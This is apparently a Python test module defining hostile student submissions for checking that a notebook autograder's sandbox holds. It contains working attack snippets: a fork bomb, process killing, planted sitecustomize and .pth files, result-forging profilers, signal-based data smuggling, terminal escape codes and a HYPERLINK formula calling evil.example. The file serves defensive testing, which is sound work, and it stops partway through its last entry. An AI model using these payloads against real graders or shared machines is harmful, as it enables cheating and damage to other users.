"""The attack suite: hostile submissions, what each must come to, and a judge.

An attack is either code a student appends to a solution cell in the toy course
(``toy_course.py``: ``f``, ``h`` or ``g``; it runs when that cell runs) or a change to the
submitted files (the hand-in folder's name, the student id, included). The toy's full marks
are 8: ``f``'s tests are worth 4 (``test_f`` 1, ``test_f_partial`` 3), ``h``'s 1 (``test_h``,
graded with a correct ``f``) and ``g``'s 3 (``test_g`` 2, ``test_g_quiet`` 1); an outcome
below 8 is what the attack's wrong code deserves, not a penalty. Every attack is handed in
next to an honest student; :func:`judge` then decides, per attack, whether the grader
contained it (for ``course autograde``, what must be absent is looked for in the ``course
feedback`` page too). ``test_sandbox.py`` requires ``course autograde`` to contain every one;
``make attacks`` (run this file) also grades the same class with plain ``nbgrader
autograde`` and prints both columns.

The instructor-side attacks aim at what the instructor reads after the run: for each grader,
the judge collects the *views* of it (the text its commands print to the terminal, its CSV
export and the HTML pages it writes: :func:`course_views`, :func:`nbgrader_views`).
"""

import csv
import ctypes
import hashlib
import html
import json
import os
import re
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import nbformat
import psutil
import toy_course as toy
from course_cli import course as course_command
from course_cli import env as cli_env
from course_cli import nbgrader, nbgrader_command

from course.grading import autograde, feedback
from course.grading import nbgrader_driver as driver
from course.grading.notebooks import nbgrader_meta, read_notebook
from course.grading.untrusted import FORMULA_STARTS

FULL = sum(toy.POINTS.values())
NBGRADER_PATIENCE = 60  # seconds plain nbgrader gets per student before it counts as hung
ERROR_ROW = "error row"  # the submission gets a clear 'not graded' line, not a crash
HIDDEN_INPUT = "-4.0, 0.5"  # test_g's hidden argument, as a list prints it: never handed back
# what the grader says when the student's own run passes a cell that its judge fails
DISAGREES = "pass in your notebook but not when the grader runs them"


@dataclass
class Attack:
    name: str
    code: str = ""  # appended to a solution cell; {root} and {port} are filled in
    cell: str = "f"  # the solution cell the code is appended to (the toy's f, h or g)
    files: object = None  # or a function(folder, root) that tampers with the hand-in
    outcome: object = FULL  # the attacker's total score (or a tuple of them), or ERROR_ROW
    present: str = ""  # must appear in the attacker's outputs (an ERROR_ROW: in its error row)
    absent: str = ""  # must not appear in the attacker's outputs
    side_effect: str = ""  # a check of the machine after the run: see judge()
    student: str = ""  # the hand-in's folder (the student id) when not the attack's name
    shown: str = ""  # a tag the instructor must see, on lines without control characters
    logged: str = ""  # must appear in the instructor's log of the attacker's test cells (the
    # judged runs' text, which a test cell shows only as the grader's words)

    @property
    def student_id(self):
        return self.student or self.name


def _set_nbformat_3(folder, root):
    nb = read_notebook(folder / "toy.ipynb")
    nbformat.write(nbformat.v3.convert.downgrade(nb), folder / "toy.ipynb", version=3)


def _edit_cells(change):
    def tamper(folder, root):
        nb = read_notebook(folder / "toy.ipynb")
        change(nb)
        nbformat.write(nb, folder / "toy.ipynb")

    return tamper


def _cell(nb, grade_id):
    return next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == grade_id)


def _duplicate_test_f(nb):
    copy = json.loads(json.dumps(_cell(nb, "test_f")))
    copy["id"] = "dup"
    copy["source"] = "pass"
    nb.cells.insert(1, nbformat.from_dict(copy))


# The grader's processes, to signal them or read their memory: the parent (nbgrader's
# kernel runs under nbgrader; in the sandbox the parent is outside the submission's pid
# namespace, so getppid() is 0) and the execution servers found in /proc (pid 1 there is
# bubblewrap's, but a signal to 1 reaches the submission itself, pid 1 of its namespace).
_SERVERS = (
    "import os, signal\nme = os.readlink('/proc/self')\n"
    "servers = [p for p in os.listdir('/proc') if p.isdigit() and p not in (me, '1') and "
    "b'course.grading' in open(f'/proc/{{p}}/cmdline', 'rb').read()]\n"
    "servers += [str(os.getppid())] if os.getppid() > 1 else []\n"
)
# A g that is right on numbers but wrong on arrays: test_g's visible array check must fail.
_WRONG_G = "def g(x):\n    return x * x if np.ndim(x) == 0 else x"

# What the private-world attacks plant, where a later classmate would run or find it: modules
# an honest notebook imports (installed, but not yet imported by the grader), the files a new
# interpreter runs at start, a folder the grader cannot empty, a shared memory segment.
PLANTED_NAMES = ("tqdm.py", "statistics.py", "sitecustomize.py", "planted-by-an-attack.pth")
PLANTED_CODE = "print('PLANTED CODE RAN')\nraise ImportError('planted by an earlier submission')\n"
SHM_KEY = 0x16C0DE
_PLANT = (
    "import os, socket, sys\nplaces = ['/tmp']\n"
    "if socket.gethostname() == 'sandbox':  # never litter a real machine's folders\n"
    "    places += ['/', '/dev'] + [p for p in sys.path if p and os.path.isdir(p)]\n"
    "planted = 0\nfor place in dict.fromkeys(places):\n"
    f"    for name in {PLANTED_NAMES!r}:\n"
    "        try:\n            with open(os.path.join(place, name), 'w') as fh:\n"
    f"                fh.write({PLANTED_CODE!r} if name.endswith('.py') else "
    "'import sys; print(\"PLANTED CODE RAN\")\\n')\n"
    "            planted += 1\n        except OSError:\n            pass\n"
    "print('planted', planted, 'files')"
)
_PLANT_IN_THE_FOLDER = (
    "import os\nos.makedirs('helpers', exist_ok=True)\n"
    f"open('helpers/__init__.py', 'w').write({PLANTED_CODE!r})\n"
    f"open('sitecustomize.py', 'w').write({PLANTED_CODE!r})\n"
    "os.chmod('helpers', 0o500)  # a folder whose files cannot be deleted"
)
_FIND_PLANTED = (
    "import ctypes, os, sys\nfound = []\n"
    "places = ['/', '/dev', '/tmp', os.getcwd(), os.path.expanduser('~')] + sys.path\n"
    "for place in dict.fromkeys(p for p in places if p and os.access(p, os.W_OK)):\n"
    f"    found += [os.path.join(place, n) for n in os.listdir(place) if n in {PLANTED_NAMES!r}"
    " or n == 'helpers']\n"
    f"if ctypes.CDLL(None).shmget({SHM_KEY:#x}, 0, 0) >= 0:\n"
    "    found.append('a shared memory segment')\n"
    "print('FOUND', found) if found else print('a clean world')"
)
_DAEMON = (  # double fork, new session, exec: a daemon with no tie to the notebook's process
    "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        os.execv('/bin/sleep', ['sleep', '1234'])\n    os._exit(0)\nos.wait()"
)
_ESCAPE = (  # the notebook's own process: no death signal with its parent, a session of its own
    "import ctypes, os, subprocess\nctypes.CDLL(None).prctl(1, 0)  # PR_SET_PDEATHSIG: none\n"
    "os.setsid()\nsubprocess.Popen(['sleep', '1234'])"
)

# --- a private world per submission (issue 16): what one writes, the next never sees
# (the next on the same server: test_sandbox.py grades them in this order, then CLASSMATE;
# an attack that starts a daemon is followed by one that starts none)
PRIVATE_WORLD = [
    Attack("daemon_outlives_the_run", _DAEMON, side_effect="no process left"),
    Attack("plant_modules_in_tmp_and_on_the_path", _PLANT, present="planted"),
    Attack("first_process_leaves_its_group", _ESCAPE, side_effect="no process left"),
    Attack("plant_a_package_in_the_working_folder", _PLANT_IN_THE_FOLDER),
    Attack("plant_a_shared_memory_segment",
           "import ctypes\n"
           f"made = ctypes.CDLL(None).shmget({SHM_KEY:#x}, 4096, 0o1600) >= 0  # IPC_CREAT\n"
           "print('segment made' if made else 'segment refused')", present="segment made"),
    Attack("find_what_others_planted", _FIND_PLANTED, present="a clean world", absent="FOUND"),
    Attack("a_writable_folder_before_the_installed_packages",
           "import os, sys\nfirst = sys.path[:[i for i, p in enumerate(sys.path) "
           "if p.endswith('site-packages')][0]]\n"
           "print('writable first:', [p for p in first if os.access(p or '.', os.W_OK)])",
           present="writable first: []"),
]  # fmt: skip


def _escapes(tag):
    """Text that, printed raw, sets the terminal's title, writes to the clipboard (OSC 52),
    wipes the line and paints a fake green verdict, all around ``tag``."""
    return (
        f"\x1b]0;{tag}\x07\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[2K\x1b[1G"
        f"\x1b[32m{tag}: all submissions graded\x1b[0m"
    )


SECRET = "only root may read this 7f3a"  # the file a hand-in links to (mode 600)


def _link_to_a_root_only_file(folder, root):
    secret = root.parent / "root_only.txt"  # outside the course directory
    secret.write_text(SECRET)
    secret.chmod(0o600)
    (folder / "notes.txt").symlink_to(secret)


def _link_the_notebook_to_source(folder, root):
    (folder / "toy.ipynb").unlink()
    (folder / "toy.ipynb").symlink_to(root / "source" / toy.ASSIGNMENT / "toy.ipynb")


def _link_the_folder_to_another_student(folder, root):
    shutil.rmtree(folder)
    folder.symlink_to(root / "submitted" / "honest" / toy.ASSIGNMENT)


# Forged results: whatever the grader's cell runner is called, it returns a dict with the
# cell's outputs and execution count; a profiler sees it returned and rewrites it before it
# is sent (FORGED, defined first, holds what replaces its fields). Runs for every later cell.
REWRITE_RESULTS = (
    "import sys\n\n"
    "def _rewrite_results(frame, event, value):\n"
    "    if event == 'return' and type(value) is dict and "
    "{{'outputs', 'execution_count'}} <= set(value):\n"
    "        value.update(FORGED)\n\n"
    "sys.setprofile(_rewrite_results)"
)
FORGED_TIMEOUT = (  # every later cell says it timed out, so that the grader skips it
    "FORGED = {{'outputs': [{{'output_type': 'error', 'ename': 'CellTimeoutError', "
    "'evalue': 'forged timeout', 'traceback': []}}]}}\n"
)
FORGED_PASS = (  # every later cell says it printed this and raised nothing
    "FORGED = {{'outputs': [{{'output_type': 'stream', 'name': 'stdout', "
    "'text': 'forged clean output'}}], 'execution_count': 1000, 'seconds': 0.0}}\n"
)
_WRONG_F = "def f(x):\n    return -x\n"  # f(0) == 0 is right: 1 of test_f_partial's 3 points
# The descriptors this process writes its answers to, seen by spying on os.write(v); then
# a message only the grader's server sends ("the process died") to each: to every OTHER
# writable descriptor (OTHERS), or to its own channel (OWN). It is sent at the end of the
# first cell that runs once an answer went out (a hook of IPython's), between two cells:
# what the process holds then is what it always holds, whatever the machine's load (a thread
# watching for the first answer would fire at a moment the load decides).
_SPY_ON_THE_CHANNEL = (
    "import builtins, fcntl, json, os, struct\n"
    "_channel, _write, _writev = set(), os.write, os.writev\n"
    "def _spy_write(fd, data):\n    _channel.add(fd)\n    return _write(fd, data)\n"
    "def _spy_writev(fd, buffers):\n    _channel.add(fd)\n    return _writev(fd, buffers)\n"
    "os.write, os.writev = _spy_write, _spy_writev\n"
    "def _forge(result):\n"
    "    if _channel and not hasattr(builtins, 'forged_to'):\n"
    "        os.write, os.writev = _write, _writev\n"
    "        data = json.dumps({{'dead': 'died'}}).encode()\n"
    "        frame = struct.pack('>I', len(data)) + data\n"
    "        builtins.forged_to = []\n"
    "        for name in os.listdir('/proc/self/fd'):\n"
    "            fd = int(name)\n"
    "            try:\n"
    "                writable = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY\n"
    "                if fd > 2 and writable and (fd in _channel) == OWN:\n"
    "                    _write(fd, frame)\n                    builtins.forged_to.append(fd)\n"
    "            except OSError:\n                pass\n"
    "    if hasattr(builtins, 'forged_to'):\n"
    "        print('frames written to', len(builtins.forged_to), 'other descriptors')\n"
    "get_ipython().events.register('post_run_cell', _forge)"
)

# A g that, called by the judge in the last test cell (so in that cell's copy of the process,
# which shares the original's pipe), writes two more answers right after its own: the
# results of the cells that come next (the visible run of that test cell, then plot_g),
# there before the original process is asked to run them, with what the copy saw.
_ANSWER_AHEAD = (
    "import json, os, struct, sys\n"
    "FORGED = {{'result': {{'outputs': [{{'output_type': 'stream', 'name': 'stdout', "
    "'text': 'ANSWERED AHEAD BY A COPY'}}], 'execution_count': 1000, 'seconds': 0.0}}}}\n"
    "_real_writev = os.writev\n"
    "def _answer_ahead(fd, buffers):\n"
    "    if not bytes(buffers[-1]).startswith(b'{{\"return\"'):\n"
    "        return _real_writev(fd, buffers)\n"
    "    os.writev = _real_writev\n"
    "    data = json.dumps(FORGED).encode()\n"
    "    ahead = [struct.pack('>I', len(data)), data] * 2\n"
    "    # in the same system call as the answer: whatever the machine's load, they arrive\n"
    "    # together, before the grader asks anything else\n"
    "    return _real_writev(fd, [*buffers, *ahead]) - sum(map(len, ahead))\n"
    "def g(x):\n"
    "    if sys._getframe(1).f_code.co_name == '_serve_call' and np.ndim(x) == 0 and x == 2:\n"
    "        os.writev = _answer_ahead  # test_g_quiet's call, in its copy\n"
    "    return x * x"
)

# An h that keeps the f a test cell rebinds (the grader's correct f, lent for each call).
_KEEP_THE_LENT_F = (
    "kept = []\n_own_f = f\n\ndef h(x):\n    if f is not _own_f:\n        kept.append(f)\n"
    "    return f(x) + 1"
)
_SQUARE_WITH_THE_KEPT_F = "def g(x):\n    return kept[0](x) * x / 2  # 2 * x * x / 2"


# A g that rewrites how its process reads (os.read, which the grader's own code calls) to keep
# every byte it receives, and prints the arrays found there when plot_g, a later cell, calls
# it: the student's process passes the judge's calls on to the copy that serves them, so had
# the judge run test_g before plot_g, its hidden input would be among them. ``{write_down}``:
# what else it does with each read (the second attack writes the arrays into a file of its
# folder, handed in with the notebook).
_READ_WHAT_THE_PROCESS_RECEIVES = (
    "import base64\nimport os\nimport re\n\n_received = []\n_read = os.read\n\n\n"
    "def _arrays(data):\n"
    "    text = data.decode('utf-8', 'replace')\n"
    '    for blob in re.findall(\'"data": ?"([A-Za-z0-9+/=]+)"\', text):\n'
    "        raw = base64.b64decode(blob)\n"
    "        if len(raw) % 8 == 0:\n"
    "            yield np.frombuffer(raw, dtype='<f8').tolist()\n\n\n"
    "def _keep(fd, n):\n    data = _read(fd, n)\n    _received.append(data)\n{write_down}"
    "    return data\n\n\n"
    "os.read = _keep\n\n\ndef g(x):\n"
    "    if np.ndim(x) == 0 and x == 1:  # plot_g, a later cell\n"
    "        for values in _arrays(b''.join(_received)):\n"
    "            print('RECEIVED', values)\n"
    "    return x * x"
)
_WRITE_DOWN = (
    "    with open('received.txt', 'a') as fh:\n"
    "        for values in _arrays(data):\n"
    "            fh.write(str(values) + '\\n')\n"
)


# A g that installs handlers for two real-time signals in its cell (the copies of the process
# inherit them). Called with test_g's hidden input, in test_g's copy, it sends the 128 bits of
# the two floats as signals to the next few pids (the copies made after it, waiting); in the
# copy kept for test_g_quiet, a later test cell, g(2) prints what arrived. Copies are forks of
# one process: they can always pass data on, so what they print must reach no student.
_COLLUDE_THROUGH_SIGNALS = (
    "import os, signal, struct, time\n_bits = []\n\n\n"
    "def _got(sig, frame):\n    _bits.append(sig - signal.SIGRTMIN)\n\n\n"
    "signal.signal(signal.SIGRTMIN, _got)\nsignal.signal(signal.SIGRTMIN + 1, _got)\n\n\n"
    "def g(x):\n"
    "    if np.ndim(x) and len(x) == 2:  # test_g's hidden call, in its copy\n"
    "        me = os.getpid()\n"
    "        for byte in struct.pack('<2d', *x):\n"
    "            for k in range(8):\n"
    "                for pid in range(me + 1, me + 6):\n"
    "                    try:\n"
    "                        os.kill(pid, signal.SIGRTMIN + ((byte >> k) & 1))\n"
    "                    except OSError:\n"
    "                        pass\n"
    "                time.sleep(0.02)  # a signal sent twice before its handler ran counts once\n"
    "    if np.ndim(x) == 0 and x == 2 and _bits:  # test_g_quiet's copy\n"
    "        bits = (_bits + [0] * 128)[:128]  # (a signal sent again too soon counts once)\n"
    "        raw = bytes(sum(bits[8 * i + k] << k for k in range(8)) for i in range(16))\n"
    "        print('SIGNALLED', list(struct.unpack('<2d', raw)))\n"
    "    return x * x"
)


def _append_to_cells(**codes):
    """A tampering that appends ``codes[cell]`` to each solution cell named."""

    def append(nb):
        for name, code in codes.items():
            _cell(nb, name).source += "\n\n" + code

    return _edit_cells(append)


ATTACKS = [
    # --- reading what a student must not see
    Attack("read_hidden_tests_in_source",
           "try:\n    print(open('{root}/source/toy/toy.ipynb').read())\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked FileNotFoundError", absent=HIDDEN_INPUT),
    Attack("read_gradebook",
           "try:\n    print(open('{root}/gradebook.db', 'rb').read()[:64])\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked FileNotFoundError", absent="SQLite"),
    Attack("read_other_students",
           "import os\ntry:\n    print(os.listdir('{root}/submitted'))\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked FileNotFoundError", absent="honest"),
    # --- writing and deleting
    Attack("write_into_source",
           "try:\n    open('{root}/source/toy/toy.ipynb', 'a').write(' ')\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked", side_effect="source unchanged"),
    Attack("delete_another_submission",
           "import os\ntry:\n    os.remove('{root}/submitted/honest/toy/timestamp.txt')\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked", side_effect="honest timestamp kept"),
    Attack("write_into_the_course_package",
           "import course, os\ntry:\n    open(os.path.join(os.path.dirname(course.__file__), "
           "'evil.txt'), 'w').write('x')\nexcept OSError as e:\n    print('blocked', e.errno)",
           present="blocked 30", side_effect="course package unchanged"),  # EROFS
    # --- the network
    Attack("network_connection",
           "import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), "
           "timeout=2)\n    s.sendall(b'stolen')\n    print('connected')\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked", absent="connected", side_effect="nothing received"),
    # --- processes and signals
    Attack("kill_the_execution_server", _SERVERS +
           "for p in servers:\n    try:\n        os.kill(int(p), signal.SIGKILL)\n"
           "        print('killed', p)\n    except OSError as e:\n"
           "        print('blocked', type(e).__name__)",
           present="blocked ProcessLookupError", absent="killed"),
    Attack("stop_the_execution_server", _SERVERS +  # the grader must not wait forever
           "for p in servers:\n    try:\n        os.kill(int(p), signal.SIGSTOP)\n"
           "        print('stopped', p)\n    except OSError as e:\n"
           "        print('blocked', type(e).__name__)",
           present="blocked ProcessLookupError", absent="stopped"),
    Attack("read_the_servers_memory", _SERVERS +
           "for p in servers:\n    try:\n        open(f'/proc/{{p}}/mem', 'rb')\n"
           "        print('opened', p)\n    except OSError as e:\n"
           "        print('blocked', type(e).__name__)",
           present="blocked PermissionError", absent="opened"),
    Attack("kill_own_process_group", "import os, signal\nos.killpg(0, signal.SIGKILL)",
           outcome=0, present="DeadKernelError"),
    Attack("exit_the_interpreter", "import os\nos._exit(0)", outcome=0,
           present="DeadKernelError"),
    Attack("crash_with_a_segfault", "import ctypes\nctypes.string_at(0)", outcome=0,
           present="DeadKernelError"),
    Attack("exit_inside_a_graded_call", "def g(x):\n    if np.ndim(x):\n"
           "        raise SystemExit(0)\n    return x * x", cell="g", outcome=FULL - 2,
           present="SystemExit"),
    Attack("os_exit_inside_a_graded_call", "def g(x):\n    import os\n    if np.ndim(x):\n"
           "        os._exit(0)\n    return x * x", cell="g", outcome=FULL - 3,
           present="DeadKernelError"),
    Attack("fork_bomb",
           "import os, time\nforks = 0\ntry:\n    for _ in range(500):\n"
           "        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n"
           "        forks += 1\nexcept OSError as e:\n    print('blocked after', forks, 'forks')",
           present="blocked after", side_effect="no process left"),
    Attack("background_process_outlives_the_run",
           "import subprocess\nsubprocess.Popen(['sleep', '1234'], start_new_session=True)",
           side_effect="no process left"),
    # --- time, memory, disk, output
    Attack("infinite_loop", "while True:\n    pass", present="CellTimeoutError"),
    Attack("ignore_the_timeout",  # the run goes on: the process is stopped or the cell is
           "import signal\nfor sig in (signal.SIGALRM, signal.SIGINT):\n"
           "    signal.signal(sig, signal.SIG_IGN)\nwhile True:\n    pass",
           outcome=(0, FULL), present="CellTimeoutError"),
    Attack("exhaust_memory",
           "import numpy as np\ntry:\n    big = np.ones(3 * 2**30 // 8)\n    print('allocated')\n"
           "except MemoryError:\n    print('blocked MemoryError')",
           present="blocked MemoryError"),
    Attack("fill_the_disk",
           "try:\n    with open('/tmp/huge', 'wb') as fh:\n        for _ in range(400):\n"
           "            fh.write(b'0' * 2**20)\n"
           "except OSError as e:\n    print('blocked', e.errno)",
           present="blocked 27"),  # EFBIG
    Attack("display_gigabytes",
           "from IPython.display import display\n"
           "for _ in range(10):\n    display({{'text/plain': 'x' * 2**22}}, raw=True)",
           present="a figure was dropped", side_effect="notebook small"),
    Attack("return_a_huge_array", "def g(x):\n    return np.zeros(10**7) if np.ndim(x) else x * x",
           cell="g", outcome=FULL - 3, present="sent more than the grader accepts"),
    Attack("print_gigabytes",
           "import sys\nfor _ in range(40):\n    sys.stdout.write('x' * 2**20)",
           present="output cut", side_effect="notebook small"),
    # --- faking a score: every check that decides one runs outside the student's process
    Attack("patch_numpy_allclose", "np.allclose = lambda *a, **k: True\n" + _WRONG_G, cell="g",
           outcome=FULL - 2, present=DISAGREES),
    Attack("patch_the_course_check_helpers",
           "import course.testing\ncourse.testing.check_array = check_array = "
           "lambda *a, **k: None\n" + _WRONG_G, cell="g", outcome=FULL - 2,
           present=DISAGREES),
    Attack("patch_builtins_for_partial_credit",  # sum() decides test_f_partial's score
           "import builtins\nbuiltins.sum = lambda *a, **k: 3\ndef f(x):\n    return -x",
           outcome=1 + 1 + 3),  # f(0) == 0 is right: 1 of 3 partial points, h's 1, g's 3
    Attack("return_an_int_that_equals_anything",
           "class Liar(int):\n    def __eq__(self, other):\n        return True\n"
           "    __hash__ = int.__hash__\n\ndef f(x):\n    return Liar(7)",
           outcome=1 + 3, present=DISAGREES),  # h's (graded with a correct f) and g's
    Attack("return_a_lying_ndarray_subclass",
           "class Lie(np.ndarray):\n    def __eq__(self, other):\n"
           "        return np.ones(np.shape(other), bool)\n"
           "    def __sub__(self, other):\n        return np.zeros(np.shape(other))\n"
           "    __rsub__ = __sub__\n"
           "    def __abs__(self):\n        return np.zeros(self.shape)\n\n"
           "def g(x):\n    return np.zeros(np.shape(x)).view(Lie) if np.ndim(x) else x * x",
           cell="g", outcome=FULL - 2),
    Attack("return_an_object_with_a_lying_array",
           "class Fake:\n    def __array__(self, dtype=None, copy=None):\n"
           "        return np.array([0.0, 1.0, 4.0])\n"
           "    def __eq__(self, other):\n        return True\n\n"
           "def g(x):\n    return Fake() if np.ndim(x) else x * x",
           cell="g", outcome=FULL - 2, logged="cannot be checked outside"),
    # --- mutation of arguments (issue 16)
    Attack("zero_the_argument_the_expectation_is_computed_from",  # test_g's hidden check
           "def g(x):\n    if np.ndim(x) and not np.array_equal(x, [0.0, 1.0, 2.0]):\n"
           "        x[...] = 0.0  # an expectation computed from x after the call would be 0\n"
           "        return np.zeros(np.shape(x))\n    return x * x",
           cell="g", outcome=FULL - 2),  # right on the visible input, wrong on the hidden one
    # --- the judge looks up the names a test uses in the student's process: a new surface
    Attack("a_huge_nested_list_where_a_function_should_be",
           "g = [list(range(10**6))] * 12", cell="g", outcome=FULL - 3,
           present="DeadKernelError"),  # too slow to send, or too large: the process stops
    Attack("a_value_nested_too_deep",
           "g = []\nfor _ in range(10000):\n    g = [g]", cell="g", outcome=FULL - 3,
           logged="nested more than"),
    Attack("a_class_whose_methods_lie",
           "class Liar:\n    def __eq__(self, other):\n        return True\n"
           "    def __array__(self, dtype=None, copy=None):\n"
           "        return np.array([0.0, 1.0, 4.0])\n"
           "\ndef g(x):\n    return Liar()",
           cell="g", outcome=FULL - 3, logged="cannot be checked outside"),
    Attack("a_module_that_is_not_installed",  # the judge must never import the student's file
           "import sys\nopen('evil_mod.py', 'w').write(\"import sys\\nif 'course.grading.judge' "
           "in sys.modules:\\n    print('JUDGE IMPORTED ME')\\n\")\nsys.path.insert(0, '.')\n"
           "import evil_mod\ng = evil_mod", cell="g", outcome=FULL - 3,
           absent="JUDGE IMPORTED ME", logged="is not an installed module"),
    Attack("a_module_name_that_is_not_a_name",
           "import types\ng = types.ModuleType('os; import antigravity')", cell="g",
           outcome=FULL - 3, logged="is not a module name"),
    Attack("replace_ipython_run_cell",  # every later cell runs 'pass' inside the notebook
           "def f(x):\n    return -x\n\nip = get_ipython()\nreal_run_cell = ip.run_cell\n"
           "ip.run_cell = lambda raw_cell, *a, **k: real_run_cell('pass', *a, **k)",
           outcome=1, present=DISAGREES),  # h and g never exist; f(0) == 0
    Attack("hard_code_the_visible_answer",
           "def g(x):\n    return np.array([0.0, 1.0, 4.0]) if np.ndim(x) else 9",
           cell="g", outcome=FULL - 2),  # the visible checks pass, the hidden ones do not
    Attack("read_hidden_tests_from_the_history",
           "ip = get_ipython()\nip.events.register('post_run_cell', "
           "lambda result: print('SEEN', result.info.raw_cell, list(ip.user_ns['In'])))",
           cell="g", present="SEEN", absent=HIDDEN_INPUT),
    Attack("inspect_the_caller",
           "import sys\n\ndef g(x):\n    frame = sys._getframe(1)\n"
           "    print('CALLER', frame.f_code.co_filename, sorted(frame.f_globals)[:50])\n"
           "    return x * x", cell="g", present="CALLER", absent=HIDDEN_INPUT),
    # --- the notebook file itself
    Attack("broken_json",
           files=lambda folder, root: (folder / "toy.ipynb").write_text('{"cells": ['),
           outcome=ERROR_ROW),
    Attack("binary_garbage",
           files=lambda folder, root: (folder / "toy.ipynb").write_bytes(bytes(range(256)) * 8),
           outcome=ERROR_ROW),
    Attack("older_nbformat", files=_set_nbformat_3),  # upgraded and graded, as nbgrader does
    Attack("renamed_notebook",
           files=lambda folder, root: (folder / "toy.ipynb").rename(folder / "mine.ipynb"),
           outcome=ERROR_ROW),
    Attack("edit_a_test_cell", files=_edit_cells(lambda nb: setattr(
        _cell(nb, "test_g"), "source", "pass"))),  # restored: the honest code still passes
    Attack("delete_a_test_cell", files=_edit_cells(lambda nb: nb.cells.remove(
        _cell(nb, "test_g")))),  # put back and graded
    Attack("raise_the_points", files=_edit_cells(lambda nb: _cell(
        nb, "test_f").metadata.nbgrader.update(points=100))),
    Attack("turn_a_test_into_markdown", files=_edit_cells(lambda nb: setattr(
        _cell(nb, "test_f"), "cell_type", "markdown"))),
    Attack("duplicate_a_grade_id", files=_edit_cells(_duplicate_test_f)),
    Attack("add_files",  # handed-in files are there, as in nbgrader, but shadow nothing
           "import importlib.util\norigin = importlib.util.find_spec('numpy').origin\n"
           "print('numpy', 'shadowed' if origin.endswith('/numpy.py') else 'intact')",
           files=lambda folder, root: (folder / "numpy.py").write_text("allclose = None\n"),
           present="numpy intact"),
    *PRIVATE_WORLD,  # --- a private world per submission (issue 16): see above
    # --- instructor side (issue 16): what the instructor reads, and files outside the hand-in
    Attack("escape_codes_in_the_student_id", student="mallory" + _escapes("id-tag"),
           shown="id-tag"),
    Attack("escape_codes_in_a_message",
           f"def f(x):\n    raise ValueError({_escapes('message-tag')!r})",
           outcome=FULL - 4, shown="message-tag"),
    Attack("escape_codes_in_printed_text", f"print({_escapes('printed-tag')!r})",
           shown="printed-tag"),
    Attack("escape_codes_in_a_notebook_name",
           files=lambda folder, root: (folder / "toy.ipynb").rename(
               folder / f"toy{_escapes('notebook-tag')}.ipynb"),
           outcome=ERROR_ROW, shown="notebook-tag"),
    Attack("a_formula_for_the_spreadsheet",  # the id is a formula, with a comma and quotes
           student='=HYPERLINK("evil.example?"&A1,"paid")', side_effect="grades.csv safe"),
    Attack("link_to_a_root_only_file", files=_link_to_a_root_only_file, outcome=ERROR_ROW,
           present="toy/notes.txt is a symbolic link: hand in the file itself",
           side_effect="secret not copied"),
    Attack("notebook_linked_to_source", files=_link_the_notebook_to_source,
           outcome=ERROR_ROW, present="toy/toy.ipynb is a symbolic link"),
    Attack("hand_in_folder_linked_to_another_student",
           files=_link_the_folder_to_another_student, outcome=ERROR_ROW,
           present="is a symbolic link: hand in the folder itself"),
    Attack("named_pipe_in_the_hand_in",
           files=lambda folder, root: os.mkfifo(folder / "data.txt"), outcome=ERROR_ROW,
           present="toy/data.txt is a named pipe (FIFO)"),
    # --- forged results and protocol (issue 16)
    Attack("forge_a_timeout_on_every_later_cell",  # the judge still runs every test cell
           _WRONG_F + FORGED_TIMEOUT + REWRITE_RESULTS, outcome=1 + 1 + 3,
           present="forged timeout"),
    Attack("forge_clean_outputs_on_every_later_cell",
           _WRONG_F + FORGED_PASS + REWRITE_RESULTS, outcome=1 + 1 + 3,
           present="forged clean output"),
    Attack("send_a_malformed_result",  # a clear error row; its processes do not live on
           "FORGED = {{'outputs': 'all passed', 'execution_count': 'one', 'seconds': 'soon'}}\n"
           + REWRITE_RESULTS, outcome=ERROR_ROW, side_effect="no process left"),
    Attack("forge_outputs_of_20_mb_per_cell",  # under the size of one message: kept, cut
           "FORGED = {{'outputs': [{{'output_type': 'stream', 'name': 'stdout', "
           "'text': 'x' * 20_000_000}}]}}\n" + REWRITE_RESULTS,
           present="output cut", side_effect="notebook small"),
    Attack("forge_outputs_larger_than_the_grader_reads",  # the process is stopped there
           "FORGED = {{'outputs': [{{'output_type': 'stream', 'name': 'stdout', "
           "'text': 'x' * 60_000_000}}]}}\n" + REWRITE_RESULTS, outcome=0,
           present="sent more than the grader accepts", side_effect="notebook small"),
    Attack("forge_a_result_of_a_million_empty_lists",  # small as bytes, huge as objects
           "FORGED = {{'outputs': [[]] * 1_000_000}}\n" + REWRITE_RESULTS, outcome=0,
           present="sent more than the grader accepts"),
    Attack("write_to_inherited_descriptors",  # the grader's pipes are closed: what is left
           "OWN = False\n" + _SPY_ON_THE_CHANNEL,  # leads to its own copies, which ignore it
           present="frames written to"),
    Attack("send_a_message_only_the_server_sends",  # on its own channel: the server refuses
           "OWN = True\n" + _SPY_ON_THE_CHANNEL, outcome=ERROR_ROW),
    Attack("a_copy_answers_ahead_for_the_next_cells",  # the server stops it: nothing was asked
           _ANSWER_AHEAD, cell="g", outcome=ERROR_ROW, present="nobody asked for",
           absent="ANSWERED AHEAD"),
    # --- lending and hidden calls (issue 16)
    Attack("keep_a_lent_reference_for_a_later_cell",  # g computes with the grader's f
           files=_append_to_cells(h=_KEEP_THE_LENT_F, g=_SQUARE_WITH_THE_KEPT_F),
           outcome=FULL - 3),  # g has no code of its own: test_g and test_g_quiet fail
    Attack("keep_a_lent_reference_for_a_later_call",  # test_h's second call uses the first's
           files=_append_to_cells(h=_KEEP_THE_LENT_F.replace("f(x) + 1", "kept[0](x) + 1")),
           outcome=FULL - 1, logged="lent for one call"),  # test_h's hidden call fails
    Attack("record_hidden_arguments_in_a_global",
           "seen = []\n\ndef g(x):\n    seen.append(np.asarray(x).tolist())\n"
